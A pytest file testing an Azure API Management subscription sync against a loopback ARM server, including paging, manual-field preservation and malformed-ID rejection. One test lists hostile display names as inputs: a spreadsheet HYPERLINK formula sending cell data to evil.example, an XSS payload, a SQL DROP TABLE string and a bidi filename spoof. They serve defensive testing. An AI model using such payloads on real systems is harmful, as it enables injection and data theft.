"""Subscription directory sync through the real ``azure-mgmt-apimanagement`` client against a loopback ARM.

The loopback server speaks https with a self-signed certificate made here, and the client is
given that certificate as ``connection_verify``: azure-core's bearer-token policy refuses plain
http, and this keeps the production policy (and its https check) exactly as in Azure. The
credential is a static fake, so nothing ever asks the instance-metadata address for a token.
Nothing is patched: the SDK builds the URLs, follows ``nextLink`` and deserializes the JSON.

The served JSON has the shape of the REST API's own ``Subscription - List`` example (2024-05-01):
``ownerId`` and ``scope`` as full resource ids, a page linking the next, the last page's
``nextLink`` empty.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from shared.adapters.arm_subscriptions import ArmSubscriptionSource, SubscriptionSourceError
from shared.adapters.subscription_tables import MemorySubscriptionStore, SubscriptionTableStore
from shared.adapters.table_access import TableAccess
from shared.composition import table_store
from shared.core.apim_ids import ApimIdError
from shared.core.cost_centers import UNASSIGNED, SubscriptionInfo, SubscriptionInfoRepository
from shared.core.deployments import Source
from shared.core.keys import MAX_PART
from shared.services.subscription_info import list_subscriptions, set_subscription_info, subscription_directory
from shared.services.subscription_sync import SubscriptionSyncService
from shared.settings import Settings
from tests.fakes import FakeClock, FakeCredential
from tests.loopback_arm import serve_arm

AZ_SUB = "00000000-0000-0000-0000-000000000001"
SERVICE_ID = f"/subscriptions/{AZ_SUB}/resourceGroups/rg-apim/providers/Microsoft.ApiManagement/service/apim-ai"
OTHER_ID = f"/subscriptions/{AZ_SUB}/resourceGroups/rg-apim/providers/Microsoft.ApiManagement/service/apim-gone"
T0 = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)


def subscription_json(sid: str, display_name: str | None, owner: str = "1", product: str = "starter",
                      state: str = "active", relative: bool = False) -> dict[str, Any]:
    """One ``SubscriptionContract`` as ARM serves it (full-id ``ownerId``/``scope`` unless ``relative``)."""
    base = "" if relative else SERVICE_ID
    properties: dict[str, Any] = {
        "ownerId": f"{base}/users/{owner}",
        "scope": f"{base}/products/{product}" if product else f"{base}/apis",
        "state": state,
        "createdDate": "2026-03-17T17:45:33.837Z",
        "allowTracing": False,
    }
    if display_name is not None:
        properties["displayName"] = display_name
    return {"id": f"{SERVICE_ID}/subscriptions/{quote(sid, safe='')}",
            "type": "Microsoft.ApiManagement/service/subscriptions", "name": sid, "properties": properties}


@dataclass
class FakeArm:
    """What the loopback ARM serves: the service's subscriptions, on as many pages as given."""

    pages: list[list[dict[str, Any]]] = field(default_factory=list)
    requests: list[tuple[str, str]] = field(default_factory=list)  # (path?query, Authorization)
    base: str = ""

    def answer(self, path: str, query: dict[str, list[str]]) -> tuple[int, dict[str, Any]]:
        listing = f"{urlsplit(SERVICE_ID).path}/subscriptions"
        if path.lower() != listing.lower():
            return 404, {"error": {"code": "ResourceNotFound", "message": f"{path} not found"}}
        page = int(query.get("$skip", ["0"])[0]) // 100
        last = page + 1 >= len(self.pages)
        next_link = "" if last else f"{self.base}{listing}?api-version=2024-05-01&$top=100&$skip={(page + 1) * 100}"
        items = self.pages[page] if self.pages else []
        return 200, {"value": items, "count": sum(len(p) for p in self.pages), "nextLink": next_link}


@pytest.fixture
def arm(tmp_path: Path) -> Iterator[tuple[FakeArm, Path]]:
    fake = FakeArm()
    with serve_arm(fake, tmp_path) as cert:
        yield fake, cert


def service(fake: FakeArm, cert: Path, store: SubscriptionInfoRepository, clock: FakeClock,
            credential: FakeCredential | None = None) -> SubscriptionSyncService:
    source = ArmSubscriptionSource(credential or FakeCredential("fake"), fake.base, connection_verify=str(cert),
                                   retry_total=0)
    return SubscriptionSyncService(source, store, clock)


def two_pages() -> list[list[dict[str, Any]]]:
    return [[subscription_json("5600b59475ff190048070001", None),
             subscription_json("team-search", "Search team", owner="56eaec62baf08b06e46d27fd")],
            [subscription_json("team-chat", "Chat (prod)", owner="5931a75ae4bbd512a88c680b", product="unlimited",
                               state="submitted", relative=True),
             subscription_json("master", "Built-in all-access subscription", product="")]]


def test_sync_reads_every_page_reads_back_and_a_second_sync_changes_nothing(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    fake.pages = two_pages()
    store, clock, credential = MemorySubscriptionStore(), FakeClock(T0), FakeCredential("fake")

    report = service(fake, cert, store, clock, credential).sync(SERVICE_ID)

    assert [r.subscription_id for r in report.added] == ["5600b59475ff190048070001", "team-search", "team-chat",
                                                          "master"]
    assert (report.updated, report.unchanged, report.not_listed) == ((), 0, ())
    by_id = {r.subscription_id: r for r in store.all()}
    search = by_id["team-search"]
    assert (search.display_name, search.owner, search.arm_owner, search.scope, search.state, search.source,
            search.cost_center, search.tags, search.updated_at) == (
        "Search team", "56eaec62baf08b06e46d27fd", "56eaec62baf08b06e46d27fd", "/products/starter", "active",
        Source.ARM, "", {}, T0)
    chat = by_id["team-chat"]  # relative ownerId/scope read exactly like full resource ids
    assert (chat.owner, chat.scope, chat.state) == ("5931a75ae4bbd512a88c680b", "/products/unlimited", "submitted")
    assert by_id["master"].scope == "/apis" and by_id["5600b59475ff190048070001"].display_name == ""
    assert subscription_directory(store).cost_center_of("TEAM-SEARCH") == UNASSIGNED

    # the real client listed the service's subscriptions, followed nextLink, sent the fake bearer token
    listing = f"{urlsplit(SERVICE_ID).path}/subscriptions"
    paths = [path for path, _ in fake.requests]
    assert len(paths) == 2 and all(urlsplit(p).path == listing for p in paths)
    assert "api-version=2024-05-01" in paths[0] and "skip=100" in paths[1]
    assert all(auth == "Bearer fake" for _, auth in fake.requests)
    assert credential.scopes and credential.scopes[0] == ("https://management.azure.com/.default",)

    written = store.entities()
    clock.now = T0 + dt.timedelta(hours=1)
    again = service(fake, cert, store, clock).sync(SERVICE_ID)
    assert (again.added, again.updated, again.unchanged, again.not_listed) == ((), (), 4, ())
    assert store.entities() == written  # not even UpdatedAt moved


def test_a_manual_cost_center_owner_and_tags_survive_later_syncs(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    fake.pages = two_pages()
    store, clock = MemorySubscriptionStore(), FakeClock(T0)
    service(fake, cert, store, clock).sync(SERVICE_ID)

    set_at = T0 + dt.timedelta(minutes=5)
    set_subscription_info(store, "Team-Search", cost_center=" CC-4711 ", business_unit="Retail",
                          owner="search-lead@contoso.example", tags={"env": "prod", "app": "search"}, now=set_at)

    # ARM renames the subscription and hands it to another APIM user
    clock.now = T0 + dt.timedelta(days=1)
    fake.pages = [[subscription_json("5600b59475ff190048070001", None),
                   subscription_json("team-search", "Search & Ranking", owner="77")],
                  two_pages()[1]]
    report = service(fake, cert, store, clock).sync(SERVICE_ID)

    assert [r.subscription_id for r in report.updated] == ["team-search"] and report.unchanged == 3
    search = store.get("team-search")
    assert search is not None
    assert (search.subscription_id, search.display_name, search.arm_owner) == ("team-search", "Search & Ranking", "77")
    assert (search.cost_center, search.business_unit, search.owner, search.owner_is_manual, search.tags) == (
        "CC-4711", "Retail", "search-lead@contoso.example", True, {"env": "prod", "app": "search"})
    assert search.updated_at == clock.now
    directory = subscription_directory(store)
    assert directory.cost_center_of("team-search") == "CC-4711"
    assert directory.cost_center_of("team-chat") == UNASSIGNED == directory.cost_center_of("never-seen")
    assert [r.subscription_id for r in list_subscriptions(store, cost_center="CC-4711")] == ["team-search"]

    # dropping the manual owner gives ARM's back at once, cost center untouched
    cleared = set_subscription_info(store, "team-search", owner="", now=clock.now)
    assert (cleared.owner, cleared.owner_is_manual, cleared.cost_center) == ("77", False, "CC-4711")
    assert store.get("TEAM-search") == cleared


def test_a_subscription_set_before_arm_lists_it_is_manual_then_joined(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    store, clock = MemorySubscriptionStore(), FakeClock(T0)
    early = set_subscription_info(store, "team-chat", cost_center="CC-1", now=T0)
    assert (early.source, early.display_name, early.cost_center) == (Source.MANUAL, "", "CC-1")

    fake.pages = two_pages()
    report = service(fake, cert, store, clock).sync(SERVICE_ID)

    assert "team-chat" in [r.subscription_id for r in report.updated]
    chat = store.get("team-chat")
    assert chat is not None
    assert (chat.source, chat.display_name, chat.cost_center) == (Source.ARM, "Chat (prod)", "CC-1")


HOSTILE = [
    ("formula", '=HYPERLINK("https://evil.example/?x="&A1,"click")'),
    ("markup", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
    ("quotes", "'; DROP TABLE subscriptions; -- \" \\ back\\slash \\u0000 {\"json\": true}"),
    ("bidi", "invoice\u202egnp.exe"),
    ("newlines", "line one\r\nline two\tTabbed\x00nul\x1b[31mred"),
    ("emoji", "Team 🧾 Ünïcödé 名前 \U0001f468\u200d\U0001f469\u200d\U0001f467"),
]
HOSTILE_SIDS = ["a/b#c?d\\e", "%41%2F", "Δ-team ünï", "x" * 256, "line\nbreak\x00"]


def test_hostile_display_names_and_ids_are_stored_verbatim_under_safe_keys(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    items = [subscription_json(f"hostile-{label}", text) for label, text in HOSTILE]
    items += [subscription_json(sid, f"odd id {index}") for index, sid in enumerate(HOSTILE_SIDS)]
    fake.pages = [items]
    store = MemorySubscriptionStore()

    service(fake, cert, store, FakeClock(T0)).sync(SERVICE_ID)

    by_id = {r.subscription_id: r for r in store.all()}
    assert {label: by_id[f"hostile-{label}"].display_name for label, _ in HOSTILE} == dict(HOSTILE)
    assert set(HOSTILE_SIDS) <= set(by_id)
    assert_safe_keys(store.entities())
    # a second sync of the same hostile text is no change
    assert service(fake, cert, store, FakeClock(T0 + dt.timedelta(hours=1))).sync(SERVICE_ID).unchanged == len(items)


def assert_safe_keys(entities: list[dict[str, Any]]) -> None:
    for entity in entities:
        key = entity["PartitionKey"]
        assert len(key) <= MAX_PART and re.fullmatch(r"[A-Za-z0-9\-_.~@:+=,;!$()*%]+", key), key
        assert entity["RowKey"] == "info"
    assert len({e["PartitionKey"] for e in entities}) == len(entities)


def test_the_table_store_keeps_hostile_text_and_both_writers_fields(arm: tuple[FakeArm, Path],
                                                                    settings: Settings) -> None:
    fake, cert = arm
    fake.pages = [[subscription_json(f"hostile-{label}", text) for label, text in HOSTILE]
                  + [subscription_json(sid, "odd id") for sid in HOSTILE_SIDS]]
    store = SubscriptionTableStore(TableAccess(table_store(settings), settings.table_prefix))
    sync = service(fake, cert, store, FakeClock(T0))
    first = sync.sync(SERVICE_ID)
    assert len(first.added) == len(HOSTILE) + len(HOSTILE_SIDS)

    # the most JSON the tag limits allow: 50 tags, names and values of 256 characters that all need escaping
    tags = {f"{index:02d}" + '"' * 254: "\\" * 255 + "🧾" for index in range(50)}
    set_subscription_info(store, HOSTILE_SIDS[0], cost_center="CC-\u00e9", tags=tags, owner="o@example.com",
                          now=T0 + dt.timedelta(minutes=1))
    assert sync.sync(SERVICE_ID).unchanged == len(first.added)

    fresh = SubscriptionTableStore(TableAccess(table_store(settings), settings.table_prefix))
    by_id = {r.subscription_id: r for r in fresh.all()}
    assert {label: by_id[f"hostile-{label}"].display_name for label, _ in HOSTILE} == dict(HOSTILE)
    odd = fresh.get(HOSTILE_SIDS[0].upper())
    assert odd is not None and (odd.subscription_id, odd.cost_center, odd.tags, odd.owner, odd.display_name) == (
        HOSTILE_SIDS[0], "CC-\u00e9", tags, "o@example.com", "odd id")

    set_subscription_info(fresh, HOSTILE_SIDS[0], tags={"short": "1"}, now=T0 + dt.timedelta(minutes=2))
    shorter = fresh.get(HOSTILE_SIDS[0])
    assert shorter is not None and shorter.tags == {"short": "1"}  # no stale tail of the longer JSON


def test_subscriptions_arm_stops_listing_are_reported_and_kept(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    fake.pages = two_pages()
    store = MemorySubscriptionStore()
    service(fake, cert, store, FakeClock(T0)).sync(SERVICE_ID)
    set_subscription_info(store, "team-chat", cost_center="CC-9", now=T0)

    fake.pages = [two_pages()[0]]
    report = service(fake, cert, store, FakeClock(T0 + dt.timedelta(days=2))).sync(SERVICE_ID)

    assert report.not_listed == ("master", "team-chat") and report.unchanged == 2
    assert subscription_directory(store).cost_center_of("team-chat") == "CC-9"


def test_a_failed_listing_names_the_service_and_writes_nothing(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    store = MemorySubscriptionStore()
    with pytest.raises(SubscriptionSourceError, match=re.escape(OTHER_ID) + r".*HTTP 404"):
        service(fake, cert, store, FakeClock(T0)).sync(OTHER_ID)
    assert store.entities() == []


@pytest.mark.parametrize("bad", [
    f"/subscriptions/{AZ_SUB}/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/aoai",
    f"/subscriptions/{AZ_SUB}/resourceGroups/rg/providers/Microsoft.ApiManagement/service/apim/subscriptions/x",
    "/subscriptions/not-a-guid/resourceGroups/rg/providers/Microsoft.ApiManagement/service/apim",
    f"/subscriptions/{AZ_SUB}/resourceGroups/rg/providers/Microsoft.ApiManagement/service/9starts-with-digit",
    f"/subscriptions/{AZ_SUB}/resourceGroups/rg./providers/Microsoft.ApiManagement/service/apim",
    f"subscriptions/{AZ_SUB}/resourceGroups/rg/providers/Microsoft.ApiManagement/service/apim",
    "",
])
def test_a_malformed_service_id_fails_before_any_call(arm: tuple[FakeArm, Path], bad: str) -> None:
    fake, cert = arm
    with pytest.raises(ApimIdError, match=re.escape(repr(bad))):
        service(fake, cert, MemorySubscriptionStore(), FakeClock(T0)).sync(bad)
    assert fake.requests == []


class ManualSetDuringSync(MemorySubscriptionStore):
    """A person's ``set`` lands between the sync's read and its writes (the race the split writes exist for)."""

    def all(self) -> list[SubscriptionInfo]:
        snapshot = super().all()
        set_subscription_info(self, "team-search", cost_center="CC-RACE", owner="lead@contoso.example",
                              tags={"k": "v"}, now=T0 + dt.timedelta(seconds=1))
        return snapshot


def test_a_manual_set_during_a_sync_is_not_undone_by_it(arm: tuple[FakeArm, Path]) -> None:
    fake, cert = arm
    fake.pages = two_pages()
    store = ManualSetDuringSync()
    service(fake, cert, store, FakeClock(T0)).sync(SERVICE_ID)

    search = store.get("team-search")
    assert search is not None
    assert (search.display_name, search.cost_center, search.owner, search.tags) == (
        "Search team", "CC-RACE", "lead@contoso.example", {"k": "v"})
